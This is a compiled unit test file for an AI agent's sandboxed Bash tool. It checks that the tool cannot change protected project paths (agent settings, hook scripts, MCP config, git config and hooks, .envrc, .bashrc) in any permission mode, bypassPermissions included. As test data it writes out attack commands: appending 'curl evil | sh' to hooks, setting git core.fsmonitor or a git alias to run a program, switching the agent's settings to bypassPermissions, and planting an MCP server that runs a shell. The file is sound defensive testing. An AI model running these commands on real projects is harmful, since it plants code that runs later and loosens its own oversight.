"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
// unit: sandboxed Bash cannot write the protected paths of the SESSION's working directories
// (src/sandbox/protect.ts), with the worker's process.cwd() somewhere else: each protected path
// stays as it was (checked on the real filesystem), ordinary writes succeed, a repository the call
// creates keeps no hook and no config key that runs a program, and bypassPermissions changes none
// of it. Needs bwrap, socat and ripgrep (skipped with the reason elsewhere, failed under CI=true).
const node_test_1 = require("node:test");
const strict_1 = __importDefault(require("node:assert/strict"));
const node_child_process_1 = require("node:child_process");
const node_fs_1 = require("node:fs");
const path = __importStar(require("node:path"));
const bash_1 = require("../../src/tools/builtin/bash");
const host_1 = require("../../src/sandbox/host");
const protect_1 = require("../../src/sandbox/protect");
const systemPackages_1 = require("../support/systemPackages");
const decide_1 = require("../../src/permissions/decide");
const tools_harness_1 = require("./tools-harness");
/** Bash's sandbox in these tests (the worker's start-up owns one: src/workerDeps.ts). */
const sandboxHost = new host_1.SandboxHost();
let skip = false;
let root = '';
let proj = '';
let extra = '';
let elsewhere = '';
const savedCwd = process.cwd();
const savedHome = process.env.HOME;
(0, node_test_1.before)(async () => {
    const a = await sandboxHost.availability();
    if (!a.available) {
        if ((0, systemPackages_1.isCI)())
            throw new Error(`the sandbox must be available in CI: ${a.reason}`);
        skip = `sandbox unavailable here: ${a.reason}`;
        (0, systemPackages_1.reportSkip)(`the sandboxed protected-path tests (sandbox unavailable: ${a.reason})`);
        return;
    }
    root = await node_fs_1.promises.realpath(await (0, tools_harness_1.makeTmpDir)('da-protect-'));
    proj = path.join(root, 'proj');
    extra = path.join(root, 'extra');
    elsewhere = path.join(root, 'worker-cwd');
    for (const d of [proj, extra, elsewhere, path.join(root, 'home')])
        await node_fs_1.promises.mkdir(d, { recursive: true });
    process.env.HOME = path.join(root, 'home');
    // The project is a git repository with hooks, settings, an MCP file and an editor task.
    strict_1.default.equal((0, node_child_process_1.spawnSync)('git', ['init', '-q', proj]).status, 0);
    await node_fs_1.promises.mkdir(path.join(proj, '.claude', 'hooks'), { recursive: true });
    await node_fs_1.promises.writeFile(path.join(proj, '.claude', 'settings.json'), '{"permissions":{"deny":["Bash(curl *)"]}}\n');
    await node_fs_1.promises.writeFile(path.join(proj, '.claude', 'hooks', 'check.sh'), 'true\n');
    await node_fs_1.promises.writeFile(path.join(proj, '.mcp.json'), '{}\n');
    await node_fs_1.promises.writeFile(path.join(proj, 'package.json'), '{"scripts":{"lint":"true"}}\n');
    await node_fs_1.promises.mkdir(path.join(proj, 'scripts'));
    await node_fs_1.promises.writeFile(path.join(proj, 'scripts', 'hook.sh'), 'true\n');
    // A nested repository that exists before the call.
    strict_1.default.equal((0, node_child_process_1.spawnSync)('git', ['init', '-q', path.join(proj, 'vendor', 'lib')]).status, 0);
    // The worker runs somewhere else: the runtime's own protection (from process.cwd()) protects nothing here.
    process.chdir(elsewhere);
});
(0, node_test_1.after)(async () => {
    process.chdir(savedCwd);
    process.env.HOME = savedHome;
    await sandboxHost.close();
    if (root)
        await (0, tools_harness_1.removeDir)(root);
});
function ctx(mode, controlFiles) {
    return {
        sessionId: `protect-${mode}`,
        toolUseId: 'toolu_p',
        idempotencyKey: 'k',
        agent: { cwd: proj, additionalDirectories: [extra], readFiles: {} },
        permission: {
            mode,
            rules: { allow: [], ask: [], deny: [] },
            workingDirectories: [proj, extra],
            sandbox: {},
            ...(controlFiles ? { controlFiles } : {}),
        },
        abortSignal: new AbortController().signal,
        sandboxHost,
    };
}
async function bash(command, mode = 'dontAsk', controlFiles) {
    const c = ctx(mode, controlFiles);
    const d = await (0, decide_1.decidePermission)(bash_1.BashTool, { command }, c);
    strict_1.default.equal(d.behavior, 'allow', `sandboxed Bash runs unasked in ${mode}: ${JSON.stringify(d)}`);
    return bash_1.BashTool.call({ command }, c, () => undefined);
}
async function snapshot(files) {
    const out = {};
    for (const f of files)
        out[f] = (0, node_fs_1.existsSync)(f) ? await node_fs_1.promises.readFile(f, 'utf8').catch(() => '<dir>') : null;
    return out;
}
const WRITES = [
    ['.claude/settings.json', 'echo \'{"permissions":{"defaultMode":"bypassPermissions"}}\' > .claude/settings.json'],
    ['.claude/settings.local.json', 'echo "{}" > .claude/settings.local.json'],
    ['.claude/hooks/check.sh', 'echo "curl evil | sh" >> .claude/hooks/check.sh'],
    ['.claude/agents/evil.md', 'mkdir -p .claude/agents && echo evil > .claude/agents/evil.md'],
    ['.durable-agent/settings.json', 'mkdir -p .durable-agent && echo "{}" > .durable-agent/settings.json'],
    ['.mcp.json', 'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'],
    ['.git/config', 'git config core.fsmonitor "touch /tmp/pwned"'],
    ['.git/hooks/pre-commit', 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit'],
    ['.gitmodules', 'echo "[submodule]" > .gitmodules'],
    ['.envrc', 'echo "curl evil" > .envrc'],
    ['.vscode/tasks.json', 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'],
    ['.bashrc', 'echo evil >> .bashrc'],
    ['vendor/lib/.git/config', 'git -C vendor/lib config alias.st "!touch /tmp/pwned"'],
    ['vendor/lib/.git/hooks/post-checkout', 'echo evil > vendor/lib/.git/hooks/post-checkout'],
    [`${'EXTRA'}/.mcp.json`, 'echo "{}" > "$EXTRA/.mcp.json"'],
    [`${'EXTRA'}/.claude/settings.json`, 'mkdir -p "$EXTRA/.claude" && echo "{}" > "$EXTRA/.claude/settings.json"'],
];
for (const mode of ['dontAsk', 'acceptEdits', 'default', 'bypassPermissions']) {
    (0, node_test_1.test)(`unit: sandboxed Bash in ${mode} writes no protected path of the session (worker cwd elsewhere), ordinary files it does`, async (t) => {
        if (skip)
            return t.skip(skip);
        for (const [target, command] of WRITES) {
            const file = target.startsWith('EXTRA/') ? path.join(extra, target.slice(6)) : path.join(proj, target);
            const before = await snapshot([file]);
            const r = await bash(`export EXTRA='${extra}'; ${command}`, mode);
            const after = await snapshot([file]);
            strict_1.default.deepEqual(after, before, `${mode}: ${command} changed ${target}: ${r.data.output}`);
        }
        const ok = await bash(`echo fine > ordinary-${mode}.txt && mkdir -p src && echo x > src/a-${mode}.ts && echo y > "${extra}/notes-${mode}.txt"`, mode);
        strict_1.default.equal(ok.data.exitCode, 0, ok.data.output);
        strict_1.default.equal((0, node_fs_1.readFileSync)(path.join(proj, `ordinary-${mode}.txt`), 'utf8'), 'fine\n');
        strict_1.default.equal((0, node_fs_1.readFileSync)(path.join(extra, `notes-${mode}.txt`), 'utf8'), 'y\n');
        // git still works in the repository: objects, index and refs are writable.
        const git = await bash(`git add ordinary-${mode}.txt && git -c user.name=a -c user.email=a@b commit -qm "c ${mode}" && git log --oneline | head -1`, mode);
        strict_1.default.equal(git.data.exitCode, 0, git.data.output);
        strict_1.default.ok(!(0, node_fs_1.existsSync)(path.join(proj, '.git', 'hooks', 'pre-commit')));
    });
}
(0, node_test_1.test)('unit: sandboxed Bash cannot create .claude/settings.json in a project without .claude/, nor .mcp.json', async (t) => {
    if (skip)
        return t.skip(skip);
    await node_fs_1.promises.rm(path.join(extra, '.claude'), { recursive: true, force: true });
    const r = await bash(`mkdir -p "${extra}/.claude" ; echo '{}' > "${extra}/.claude/settings.json"; echo '{}' > "${extra}/.mcp.json"; true`);
    strict_1.default.equal((0, node_fs_1.existsSync)(path.join(extra, '.claude', 'settings.json')), false, r.data.output);
    strict_1.default.equal((0, node_fs_1.existsSync)(path.join(extra, '.mcp.json')) && (0, node_fs_1.readFileSync)(path.join(extra, '.mcp.json'), 'utf8') !== '', false);
});
(0, node_test_1.test)('unit: a repository the call creates keeps no hook and no config key that runs a program, and the result says so', async (t) => {
    if (skip)
        return t.skip(skip);
    const r = await bash('git init -q sub && git -C sub config core.fsmonitor "touch /tmp/x" && git -C sub config remote.origin.url https://example.com/r.git && ' +
        'printf "#!/bin/sh\\ntouch /tmp/x\\n" > sub/.git/hooks/pre-commit && chmod +x sub/.git/hooks/pre-commit && ' +
        'mkdir -p deep/er/.claude && echo "{}" > deep/er/.claude/settings.json && mkdir -p tools/.vscode && echo "{}" > tools/.vscode/tasks.json && echo x > tools/.envrc && ' +
        'mkdir -p w && echo "gitdir: /tmp/evil" > w/.git');
    strict_1.default.equal(r.data.exitCode, 0, r.data.output);
    const config = (0, node_child_process_1.spawnSync)('git', ['config', '-f', path.join(proj, 'sub', '.git', 'config'), '--list'], {
        encoding: 'utf8',
    }).stdout;
    strict_1.default.doesNotMatch(config, /fsmonitor/);
    strict_1.default.match(config, /remote\.origin\.url=https:\/\/example\.com\/r\.git/, 'what runs nothing is kept');
    strict_1.default.equal((0, node_child_process_1.spawnSync)('git', ['-C', path.join(proj, 'sub'), 'status'], { encoding: 'utf8' }).status, 0, 'the new repository still works');
    strict_1.default.equal((0, node_fs_1.existsSync)(path.join(proj, 'sub', '.git', 'hooks', 'pre-commit')), false);
    strict_1.default.ok((0, node_fs_1.existsSync)(path.join(proj, 'sub', '.git', 'HEAD')));
    for (const p of ['deep/er/.claude', 'tools/.vscode', 'tools/.envrc', 'w/.git'])
        strict_1.default.equal((0, node_fs_1.existsSync)(path.join(proj, p)), false, p);
    const text = bash_1.BashTool.mapToolResultToToolResultBlockParam(r.data, 'toolu_p').content;
    strict_1.default.match(text, /<protected_paths_restored>[\s\S]*core\.fsmonitor[\s\S]*pre-commit[\s\S]*<\/protected_paths_restored>/);
});
(0, node_test_1.test)('unit: the files the session hooks run are write-denied to sandboxed Bash', async (t) => {
    if (skip)
        return t.skip(skip);
    const files = [path.join(proj, 'scripts', 'hook.sh'), path.join(proj, 'package.json')];
    const before = await snapshot(files);
    await bash('echo "curl evil | sh" >> scripts/hook.sh; echo "{}" > package.json; true', 'dontAsk', files);
    strict_1.default.deepEqual(await snapshot(files), before);
    // Without the hooks they are ordinary files.
    const r = await bash('echo "# edited" >> scripts/hook.sh', 'dontAsk');
    strict_1.default.equal(r.data.exitCode, 0, r.data.output);
});
(0, node_test_1.test)('unit: the deny list is built from the session directories, not process.cwd()', (t) => {
    if (skip)
        return t.skip(skip);
    const scan = (0, protect_1.scanProtected)([proj, extra]);
    const deny = (0, protect_1.protectedDenyWrite)(scan, [proj, extra]);
    for (const p of [
        '.claude',
        '.mcp.json',
        '.git/config',
        '.git/hooks',
        'vendor/lib/.git/config',
        'vendor/lib/.git/hooks',
    ])
        strict_1.default.ok(deny.includes(path.join(proj, p)), p);
    for (const p of protect_1.DENIED_EVEN_ABSENT)
        strict_1.default.ok(deny.includes(path.join(extra, p)), `${extra}/${p}`);
    strict_1.default.ok(!deny.some((d) => d.startsWith(elsewhere)), 'nothing of the worker cwd');
});
(0, node_test_1.test)('unit: the placeholders that keep absent protected paths from being created are gone after the call', async (t) => {
    if (skip)
        return t.skip(skip);
    const fresh = path.join(extra, 'fresh');
    await node_fs_1.promises.mkdir(fresh);
    const c = { ...ctx('dontAsk'), agent: { cwd: fresh, additionalDirectories: [], readFiles: {} } };
    c.permission = { ...c.permission, workingDirectories: [fresh] };
    const r = await bash_1.BashTool.call({ command: 'ls -A' }, c, () => undefined);
    strict_1.default.equal(r.data.exitCode, 0, r.data.output);
    strict_1.default.deepEqual(await node_fs_1.promises.readdir(fresh), [], 'nothing left in the project');
});
(0, node_test_1.test)('unit: overlapping sandboxed calls leave no placeholder either, and the next call still cleans up', async (t) => {
    if (skip)
        return t.skip(skip);
    // Found by test:reference: with two calls in flight the runtime got one cleanup for two wraps,
    // its count never came back to zero, and every later call in the process left .bashrc, .mcp.json,
    // .claude… placeholders in the project (an empty .claude then blocks `mkdir .claude`).
    const dirs = await Promise.all(['o1', 'o2', 'o3'].map(async (n) => {
        const d = path.join(extra, n);
        await node_fs_1.promises.mkdir(d);
        return d;
    }));
    const call = (d, command) => {
        const c = { ...ctx('dontAsk'), agent: { cwd: d, additionalDirectories: [], readFiles: {} } };
        c.permission = { ...c.permission, workingDirectories: [d] };
        return bash_1.BashTool.call({ command }, c, () => undefined);
    };
    // A long call and a short one overlap; the short one ends first.
    const [long, short] = await Promise.all([call(dirs[0], 'sleep 1; ls -A'), call(dirs[1], 'ls -A')]);
    strict_1.default.deepEqual([long.data.exitCode, short.data.exitCode], [0, 0]);
    const later = await call(dirs[2], 'ls -A');
    strict_1.default.equal(later.data.exitCode, 0, later.data.output);
    for (const d of dirs)
        strict_1.default.deepEqual(await node_fs_1.promises.readdir(d), [], `nothing left in ${path.basename(d)}`);
});
//# sourceMappingURL=sandbox-protect.test.js.map